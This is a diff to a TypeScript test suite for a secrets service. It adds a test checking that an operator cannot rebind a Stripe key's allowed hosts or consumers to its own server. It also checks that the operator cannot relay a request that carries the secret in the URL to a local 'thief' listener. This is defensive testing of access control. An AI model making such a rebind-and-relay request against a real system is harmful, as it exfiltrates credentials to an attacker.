@@ -745,10 +745,67 @@ describe('secret-wide changes need every environment the secret has a value in',
 		});
 		// And an unlimited operator changes the secret with a production value.
 		const operator = await issue({ subject: 'op', role: 'operator' });
-		await t.service.updateSecret(operator, {
-			name: 'stripe-key',
-			allowedHosts: ['api.stripe.com'],
+		await t.service.updateSecret(operator, { name: 'stripe-key', maxVersions: 7 });
+	});
+});
+
+describe('steering a value: allowed hosts and consumers need the reveal permission', () => {
+	it('refuses an operator that would rebind a secret to its own server and relay it there', async () => {
+		const thief: { url: string[] } = { url: [] };
+		const server: Server = createServer((req, res) => {
+			thief.url.push(String(req.url));
+			res.end('{}');
 		});
+		await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+		const own = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+		try {
+			const operator = await issue({ subject: 'op', role: 'operator' });
+			for (const patch of [
+				{ allowedHosts: [own] },
+				{ allowedHosts: ['*'] },
+				{ allowedConsumers: ['op'] },
+			])
+				expect(
+					await failure(t.service.updateSecret(operator, { name: 'stripe-key', ...patch })),
+				).toMatchObject({
+					code: 'ACCESS_DENIED',
+					message: expect.stringContaining('secrets:reveal'),
+				});
+			await withApi(async (api) => {
+				const r = await api.call('POST', '/api/v1/relay', {
+					token: operator.token,
+					body: {
+						environment: 'production',
+						method: 'GET',
+						url: `${own}/e?x=[[secret:stripe-key]]`,
+					},
+				});
+				expect(pick(r)).toEqual({ status: 403, code: 'DESTINATION_NOT_ALLOWED' });
+			});
+			expect(thief.url).toEqual([]);
+			const denials = await trail({ tokenId: operator.jti, outcome: 'denied' });
+			expect(denials.filter((e) => e.reason?.includes('without secrets:reveal'))).toHaveLength(3);
+
+			// Who may read the value anyway may decide where it goes.
+			const steward = await issue({
+				subject: 'steward',
+				scopes: ['secrets:list', 'secrets:write', 'secrets:reveal'],
+			});
+			await t.service.updateSecret(steward, {
+				name: 'stripe-key',
+				allowedHosts: ['api.stripe.com'],
+			});
+			await t.service.updateSecret(t.admin, { name: 'stripe-key', allowedConsumers: ['op'] });
+			// A revealer without write may not change metadata at all.
+			const revealer = await issue({ subject: 'rev', role: 'revealer' });
+			expect(
+				await failure(
+					t.service.updateSecret(revealer, { name: 'stripe-key', allowedHosts: ['*'] }),
+				),
+			).toMatchObject({ code: 'ACCESS_DENIED' });
+		} finally {
+			await new Promise((r) => server.close(r));
+		}
 	});
 });
 
